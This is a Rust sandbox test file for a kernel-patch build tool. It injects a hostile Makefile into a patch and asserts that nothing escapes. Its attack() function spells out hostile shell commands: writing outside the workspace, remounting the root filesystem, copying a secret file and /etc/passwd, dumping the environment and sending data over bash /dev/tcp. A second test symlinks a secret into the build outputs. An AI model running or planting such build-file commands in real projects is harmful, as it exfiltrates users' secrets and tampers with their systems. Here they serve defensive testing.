//! A posted patch whose Makefile wants out: it tries to write, to read, to talk and to trick, and nothing gets out.

use super::{build, cannot_build, kernel, series, work};
use crate::sandbox::Sandbox;
use std::net::TcpListener;

/// What the patch puts into the Makefile. It runs when make reads it, and once more when it builds.
fn attack(outside: &str, secret: &str, port: u16) -> String {
    let script = [
        // Write where it must not.
        format!("echo owned > {outside}/written"),
        format!("echo owned >> {secret}"),
        String::from("echo owned > $(CURDIR)/mm/a.c"),
        String::from("echo owned > /usr/owned-by-pteward-test"),
        String::from("echo owned > /owned"),
        String::from("mount -o remount,rw / && echo owned > /owned"),
        // Read what is not its business; what it finds goes where it may write.
        format!("cat {secret} > $(O)/secret"),
        String::from("cat /etc/passwd > $(O)/passwd"),
        String::from("ls -d /proc/[0-9]* > $(O)/processes"),
        String::from("env > $(O)/environment"),
        // Talk.
        format!("bash -c 'echo secret > /dev/tcp/127.0.0.1/{port}'"),
        String::from("ls /sys/class/net > $(O)/net; cat /proc/net/dev >> $(O)/net"),
    ];
    script.join("; ")
}

#[test]
fn nothing_gets_out() {
    if cannot_build() {
        return;
    }
    let sandbox = Sandbox::new();
    let tree = kernel(&sandbox, "");
    // Outside of everything that pteward was given, as a home is; and inside of its own workspace.
    let secret = sandbox.file("home/secret", "the user's secret");
    let outside = sandbox.path("home").to_str().unwrap().to_owned();
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let script = attack(&outside, &secret, listener.local_addr().unwrap().port());
    // It runs when make reads it, and once more when make builds.
    let old = "bzImage: $(O)/arch/x86/boot/bzImage\n";
    let new = format!(
        "{old}bzImage: attack\n\nattack:\n\t@echo ran > $(O)/ran; {script}\n\ntried := $(shell {script})\n"
    );
    let series = series(&sandbox, "hostile", &[("Makefile", old, &new)]);
    let (_, lines) = build(&sandbox, &["--each-patch", &format!("{series}@tiny")]);
    assert_eq!(lines[0]["outcome"], "built");
    let built = work(&sandbox).join("build");
    assert_eq!(
        std::fs::read_to_string(built.join("ran")).unwrap(),
        "ran\n",
        "the patch's commands ran: {lines:?}"
    );

    // Written: nothing.
    assert_eq!(
        std::fs::read_to_string(&secret).unwrap(),
        "the user's secret"
    );
    assert_eq!(std::fs::read_dir(&outside).unwrap().count(), 1);
    assert!(!std::path::Path::new("/usr/owned-by-pteward-test").exists());
    for a in [tree.join("mm/a.c"), work(&sandbox).join("source/mm/a.c")] {
        assert!(std::fs::read_to_string(a).unwrap().contains("boats"));
    }
    // Read: nothing of the machine's, nothing of ours.
    let got = |name: &str| std::fs::read_to_string(built.join(name)).unwrap_or_default();
    assert_eq!((got("secret").as_str(), got("passwd").as_str()), ("", ""));
    let processes = got("processes").lines().count();
    assert!(
        (1..20).contains(&processes),
        "{processes} processes are seen"
    );
    let environment = got("environment");
    assert!(
        environment.contains("HOME=/tmp\n") && !environment.contains("PTEWARD_WORKSPACE"),
        "{environment}"
    );
    assert!(
        !environment.contains(sandbox.path("").to_str().unwrap()),
        "{environment}"
    );
    // Talked to: nobody.
    assert!(listener.accept().is_err());
    let net: Vec<String> = got("net")
        .lines()
        .filter(|line| line.contains(':'))
        .map(str::to_owned)
        .collect();
    assert!(
        net.iter().all(|line| line.trim_start().starts_with("lo:")),
        "{net:?}"
    );
    assert_eq!(lines[1]["outcome"], "built", "{lines:?}");
}

#[test]
fn pteward_does_not_read_or_write_for_it() {
    if cannot_build() {
        return;
    }
    let sandbox = Sandbox::new();
    kernel(&sandbox, "");
    let secret = sandbox.file("home/secret", "the user's secret");
    let links: Vec<String> = ["arch/x86/boot/bzImage", ".config", "vmlinux"]
        .iter()
        .map(|name| format!("ln -sfn {secret} $(O)/{name}"))
        .collect();
    let old = "bzImage: $(O)/arch/x86/boot/bzImage\n";
    let new = format!(
        "bzImage: trick\ntrick: $(O)/arch/x86/boot/bzImage\n\t@{}\n",
        links.join("; ")
    );
    let series = series(&sandbox, "trick", &[("Makefile", old, &new)]);
    let (code, lines) = build(&sandbox, &["--each-patch", &format!("{series}@tiny")]);
    assert_eq!((code, lines[1]["outcome"].as_str().unwrap()), (4, "failed"));
    assert!(lines[1]["image"].is_null(), "a link is no image: {lines:?}");
    let images = std::fs::read_dir(work(&sandbox).join("images")).unwrap();
    let secret_size = "the user's secret".len() as u64;
    for image in images.map(Result::unwrap) {
        assert_ne!(
            image.metadata().unwrap().len(),
            secret_size,
            "the secret as an image"
        );
    }
    // And the next build starts from nothing.
    let (code, lines) = build(&sandbox, &["tiny"]);
    assert_eq!((code, &lines[0]["objects"]), (0, &3.into()), "{lines:?}");
    assert_eq!(
        std::fs::read_to_string(&secret).unwrap(),
        "the user's secret"
    );
}
